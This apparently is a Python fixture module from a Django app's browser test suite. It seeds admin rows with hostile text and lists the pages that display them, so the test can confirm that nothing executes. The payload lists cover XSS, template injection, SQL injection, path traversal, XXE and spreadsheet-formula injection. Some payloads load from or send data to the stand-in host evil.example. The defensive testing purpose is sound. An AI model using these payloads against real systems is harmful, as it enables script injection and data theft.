"""Texts as a stranger would write them into a title, an address, a name or a reason, to make a page do their will.

Whatever runs calls `alert(1)` or asks a host below `evil.example`; a browser test sees both. Addresses stand alone in
fields for addresses; texts are put into all others, several at once, so that few pages show all.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from typing import Any

from django.db.models import Field, Model
from django.urls import reverse

from recallops import clock
from tests.admin import builders as make

MARKUP = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//evil.example/a.js></script>",
    "<script/src=data:,alert(1)>",
    "<script type=module>alert(1)</script>",
    "<script\x0b>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src='//evil.example/pixel.png'>",
    "<img src=x onerror=&#97;lert(1)>",
    '<img """><script>alert(1)</script>">',
    "<image href=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body background=//evil.example/x>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=prefetch href=//evil.example/p>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<frameset onload=alert(1)>",
    "<form action=//evil.example><button>ok</button></form>",
    "<button formaction=javascript:alert(1)>ok</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=&#106;avascript:alert(1)>x</a>",
    "<a ping=//evil.example href=#>x</a>",
    "<b>bold</b>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
    "<dialog open>Log in again: <input></dialog>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<!-- <script>alert(1)</script> -->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1.0?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
]
DRAWINGS = [
    '"><svg onload=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=//evil.example/a.js />",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
]
MUTANTS = [
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<template><script>alert(1)</script></template>",
    "<style><a title='</style><img src=x onerror=alert(1)>'>",
    "<p style='font-family:\"\\22\\3bx:expression(alert(1))\"'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><td><a><table><tr><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</select><script>alert(1)</script>",
    "</pre></td></tr></table><script>alert(1)</script>",
    "</time></a></p></div></body></html><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02bascript\u02baonload=alert(1)",
]
ATTRIBUTES = [
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)" style="position:fixed;inset:0',
    "`onclick=alert(1)`",
    '"><input type=password name=password autofocus>',
    '" formaction="javascript:alert(1)',
    '"/**/onclick="alert(1)',
    "'-alert(1)-'",
    '"-alert(1)-"',
    "';alert(1)//",
    '";alert(1)//',
    "\\';alert(1)//",
    "</script><!--<script>",
    "*/alert(1)/*",
    "\u2028alert(1)\u2029",
    "];alert(1);[",
    "}};alert(1);{{",
]
ALPINE_AND_HTMX = [
    "<div x-data x-init='alert(1)'>",
    "<div x-data=\"{a: alert(1)}\" x-html='a'>",
    "<div x-data @click=alert(1) x-on:mouseover=alert(1)>x</div>",
    "<div x-data :class='alert(1)'>",
    "<template x-data x-if='alert(1)'><p>x</p></template>",
    '" x-data x-init="alert(1)',
    '" @click="alert(1)',
    '" x-bind:href="alert(1)',
    "$el.ownerDocument.defaultView.alert(1)",
    "<div hx-get=//evil.example/x hx-trigger=load>",
    "<div hx-on:load=alert(1) hx-trigger=load>",
    "<div hx-on::after-request=alert(1)>",
    "<div hx-vals='js:{a: alert(1)}' hx-get=/admin/ hx-trigger=load>",
    "<div hx-ext=client-side-templates hx-post=/admin/logout/ hx-trigger=load>",
    "<div data-hx-get=//evil.example hx-trigger=load>",
    "<div hx-swap-oob=true id=live>gone</div>",
    '" hx-get="//evil.example/x" hx-trigger="load',
    '" id="pulse" hx-swap-oob="true',
]
STYLES = [
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/a.css'</style>",
    "<style>body{background:url(//evil.example/b)}</style>",
    "<p style='background:url(//evil.example/c)'>x</p>",
    "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>Log in again</div>",
    "1; background: url(//evil.example/d)",
    "red;}*{display:none}",
    "expression(alert(1))",
]
TEMPLATES = [
    "{{ 7|add:7 }}",
    "{{7*7}}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% include '/etc/passwd' %}",
    "{% load static %}{% csrf_token %}",
    "{# comment #}{{ x }}",
    "{% endblock %}{% endblocktranslate %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[${7*7}]]",
    "{{constructor.constructor('alert(1)')()}}",
    "%s %d %(x)s {0} {x}",
    "{0.__class__.__init__.__globals__}",
    "%n%n%n%s%s%s",
]
CHARACTERS = [
    "x\u202egnp.exe",
    "\u2066\u202ecustomer\u2069\u202c",
    "a\u200bd\u200cm\u200di\ufeffn",
    "\u0430dmin",  # a Cyrillic letter among Latin ones
    "e\u0301" * 30,
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f" * 12,
    "a\ufffdb",
    "\x01\x02\x07\x08\x1b[31mred\x1b[0m",
    "line\nbreak\r\nand\ttab",
    "\ufdfd" * 20,
    "💥" * 20,
    "👩‍👩‍👧‍👦" * 12,
    "\U000e0041\U000e0042",  # tag characters, which nothing shows
    "\ud7ff\ue000\ufffe",
    "W" * 120,
    "x " * 60,
    "../" * 30 + "etc/passwd",
    "'; DROP TABLE calendars_event; --",
    "None",
    "undefined",
    "-1",
    "0" * 60,
]
FORMULAS = [
    '=HYPERLINK("http://evil.example")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("//evil.example/",A1),"//a")',
    "=1+1;alert(1)",
    '"=1+1',
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://https://meet.example/%0aalert(1)",
    "javascript&colon;alert(1)",
    "javascript%3Aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "view-source:javascript:alert(1)",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "filesystem:https://evil.example/",
    "ftp://evil.example/x",
    "//evil.example",
    "\\\\evil.example\\share",
    "/\\evil.example",
    "https:evil.example",
    'https://meet.example/"onclick=alert(1) x="',
    "https://meet.example/'onmouseover='alert(1)",
    "https://meet.example/<script>alert(1)</script>",
    'https://meet.example/"><img src=x onerror=alert(1)>',
    "https://meet.example/{{7*7}}",
    "https://meet.example/?a=1&lt=2#&quot;",
    "https://user:password@meet.example/room",
    "https://meet.example\\@evil.example/",
    "https://meet.example/" + "x" * 900,
    "http://[::1]/",
]
TEXTS = [
    *(*MARKUP, *DRAWINGS, *MUTANTS, *ATTRIBUTES, *ALPINE_AND_HTMX, *STYLES, *TEMPLATES, *CHARACTERS, *FORMULAS),
]


def fit(model: type[Model], name: str, texts: list[str]) -> str:
    """Return the texts one after the other, as many as go into the field."""
    field = model._meta.get_field(name)
    assert isinstance(field, Field)
    joined = " ".join(texts)
    return joined[: field.max_length] if field.max_length else joined


@dataclass
class Hostile:
    """Rows whose every text is a stranger's."""

    batch: Any
    addresses: Any
    pages: list[str] = field(default_factory=list)  # of customers

    def rows(self, texts: list[str]) -> list[Model]:
        """Put some texts and an address into a row of everything that has a page of its own."""
        from calendars import models as of_calendars
        from migrations_app.models import Finding, Item, ShareGroup

        batch, url = self.batch, next(self.addresses)

        def t(model: type[Model], name: str) -> str:
            texts.append(texts.pop(0))  # another one first in each field, so that short fields have all of them
            return fit(model, name, texts)

        whole = " ".join(texts)
        customer = make.make_customer(name=t(of_calendars.Customer, "name"))
        calendar = make.make_calendar(customer, family=batch.source.family, email=t(of_calendars.Calendar, "email"))
        connection = make.make_connection(
            batch.source,
            calendar,
            remote_id=t(of_calendars.Connection, "remote_id"),
            metadata={whole: [whole]},
            webhook_url=url,
            platform_email=t(of_calendars.Connection, "platform_email"),
            oauth_email=t(of_calendars.Connection, "oauth_email"),
            oauth_client_id=t(of_calendars.Connection, "oauth_client_id"),
            status_changes=[{"status": whole, "created_at": whole}],
            extra={whole: whole},
        )
        assignment = make.make_assignment(
            batch.source,
            calendars=(calendar,),
            url=url,
            reason=t(of_calendars.Assignment, "reason"),
            note=t(of_calendars.Assignment, "note"),
            exception=t(of_calendars.Assignment, "exception"),
            bot_config={"bot_name": whole},
        )
        event = make.make_event(
            connection, title=whole, url=url, occurrence=assignment.occurrences.get(), meeting_platform=texts[0][:40]
        )
        reason = t(of_calendars.Occurrence, "reason")
        of_calendars.Occurrence.objects.filter(pk=event.occurrence_id).update(reason=reason)
        bot = make.make_bot(
            batch.source, meeting_url=url, config={"bot_name": whole}, status=t(of_calendars.Bot, "status")
        )
        item = make.make_item(batch, connection=connection, title=t(Item, "title"), reason=t(Item, "reason"))
        finding = make.make_finding(
            batch,
            item=item,
            subject=t(Finding, "subject"),
            sentence=t(Finding, "sentence"),
            remedy=t(Finding, "remedy"),
            waived_reason=t(Finding, "waived_reason"),
            waived_at=clock.now(),
        )
        intent = make.make_intent(
            batch.source,
            assignment=assignment,
            subject=t(of_calendars.Intent, "subject"),
            outcome=t(of_calendars.Intent, "outcome"),
        )
        mapping = make.make_mapping(
            batch.source,
            batch.target,
            source_remote_id=t(of_calendars.IdMapping, "source_remote_id"),
            target_remote_id=t(of_calendars.IdMapping, "target_remote_id"),
        )
        act = of_calendars.AuditEntry.objects.record(
            actor=None, action="batch.pause", subject=batch, reason=whole, before=whole, after=[whole], note=whole
        )
        rows = [customer, calendar, connection, assignment, event, bot, item, finding, intent, mapping, act]
        rows += self._decided(customer, event.occurrence, whole, t)
        rows += self._told(whole, url, t)
        rows += self._messages(customer, t)
        group = make.make_share_group(batch, items=(item,), name=t(ShareGroup, "name"), reason=t(ShareGroup, "reason"))
        make.make_assignment(batch.source, calendars=(calendar,), start=clock.now())
        return [*rows, group, *self._asked(item, whole, t)]

    def _asked(self, item: Any, whole: str, t: Any) -> list[Model]:
        """What a provider was asked, what became of it, and what people asked each other for."""
        from calendars.models import ProviderCall
        from migrations_app.models import Approval, StepRecord

        words = {name: t(ProviderCall, name) for name in ("subject", "error", "request_id")}
        call = make.make_call(self.batch.source, status=400, **words)
        make.make_step(item, reason=t(StepRecord, "reason"))
        said = {"reason": t(Approval, "reason"), "said": t(Approval, "said"), "sentences": [whole]}
        return [call, make.make_approval(self.batch, state="withdrawn", **said)]

    def _decided(self, customer: Any, occurrence: Any, whole: str, t: Any) -> list[Model]:
        """What people decided, in a stranger's words."""
        from calendars.models import RecordingChoice

        profile = make.make_profile(config={whole: whole, "nested": [{"chat": whole}]})
        said = {"reason": t(RecordingChoice, "reason"), "made_by": t(RecordingChoice, "made_by")}
        choice = make.make_choice(occurrence, **said)
        of_series = make.make_choice(customer, series=t(RecordingChoice, "series"), **said)
        return [profile, make.make_policy(customer, bot_profile=profile), choice, of_series]

    def _messages(self, customer: Any, t: Any) -> list[Model]:
        """What customers and staff are told, quoting strangers."""
        from migrations_app.mail import links
        from migrations_app.models import Alert, AlertChannel, Inquiry, Message, ReportKey, StatusLink

        contact = make.make_contact(customer, name=customer.name[:120], subscribed_at=clock.now())
        words = {name: t(Message, name) for name in ("subject", "text", "problem")}
        message = make.make_message(self.batch, customer, state="failed", **words)
        # names are unique, so a number goes first
        channel = make.make_channel(f"{customer.pk} {t(AlertChannel, 'name')}"[:80], last_problem=words["problem"])
        alert = make.make_alert(self.batch, channel=channel)
        Alert.objects.filter(pk=alert.pk).update(sentence=t(Alert, "sentence"))
        status, secret = make.make_status_link(customer, label=t(StatusLink, "label"))
        asked = make.make_subscription(status, contact.email)
        self.pages += [
            reverse("status:page", args=[secret]),
            reverse("status:confirm", args=[links.token(links.CONFIRM, asked)]),
            reverse("status:unsubscribe", args=[links.token(links.UNSUBSCRIBE, contact)]),
        ]
        inquiry = make.make_inquiry(status, self.batch, text=t(Inquiry, "text"))
        return [message, channel, alert, status, inquiry, make.make_report_key(t(ReportKey, "label"))]

    def _told(self, whole: str, url: str, t: Any) -> list[Model]:
        """What came in by webhook and what was passed on."""
        from calendars.models import Application, Delivery, RelayAttempt, Relayed, WebhookEndpoint, WebhookRefusal

        endpoint = make.make_endpoint(self.batch.source, label=t(WebhookEndpoint, "label"))
        secret = make.make_webhook_secret(self.batch.source, endpoint=endpoint, label=t(WebhookEndpoint, "label"))
        delivery = make.make_delivery(
            endpoint,
            body=whole.encode(errors="replace"),
            event=t(Delivery, "event"),
            subject=t(Delivery, "subject"),
            region=t(Delivery, "region"),
            reason=t(Delivery, "reason"),
        )
        refusal = make.make_refusal(endpoint, detail=t(WebhookRefusal, "detail"))
        application = make.make_application(
            name=t(Application, "name"),
            last_problem=t(Application, "last_problem"),
            test_result=t(Application, "test_result"),
        )
        passing = make.make_application_secret(application, label=t(WebhookEndpoint, "label"))
        relayed = make.make_relayed(application, delivery, problem=t(Relayed, "problem"), state="held")
        make.make_try(relayed, problem=t(RelayAttempt, "problem"), answer=t(RelayAttempt, "answer"))
        return [endpoint, secret, delivery, refusal, application, passing, relayed]


def make_rows(*, at_once: int) -> list[str]:
    """Put in every text and every address, so many texts in a row; return the addresses of all pages that show them."""
    batch = make.make_batch(reason=MARKUP[0])
    make.make_external(batch)
    hostile = Hostile(batch, itertools.cycle(ADDRESSES))
    groups = [TEXTS[first : first + at_once] for first in range(0, len(TEXTS), at_once)]
    rows = [row for texts in groups for row in hostile.rows(texts)]
    customers = {row.pk for row in rows if row._meta.model_name == "customer"}
    batch.customers.set(customers)
    page = reverse("admin:migrations_app_batch_change", args=[batch.pk])
    urls = [page, f"{page}?propose=1", reverse("admin:migrations_app_batch_report", args=[batch.pk])]
    urls.append(reverse("admin:calendars_assignment_upcoming") + "?hours=72")
    urls.append(reverse("admin:migrations_app_batch_customers", args=[batch.pk]))
    urls += [reverse(f"admin:{kind}_changelist") for kind in sorted({kind_of(row) for row in rows})]
    urls += [reverse(f"admin:{kind_of(row)}_change", args=[row.pk]) for row in rows]
    urls += [reverse("admin:migrations_app_item_timeline", args=[row.pk]) for row in batch.items.all()]
    return urls + hostile.pages


def kind_of(row: Model) -> str:
    """Return the name by which the admin knows the kind of a row."""
    return f"{row._meta.app_label}_{row._meta.model_name}"
